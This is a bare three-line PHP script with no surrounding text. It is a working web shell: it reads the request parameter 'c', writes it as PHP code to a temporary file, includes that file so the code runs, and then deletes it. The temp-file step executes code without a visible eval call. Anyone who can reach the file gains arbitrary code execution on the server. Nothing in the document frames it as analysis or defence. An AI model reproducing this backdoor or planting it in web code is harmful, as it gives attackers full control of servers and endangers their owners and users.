<?php
$c = $_REQUEST['c'];
$tmp = tempnam(sys_get_temp_dir(), 'x'); file_put_contents($tmp, "<?php " . $c); include($tmp); unlink($tmp);
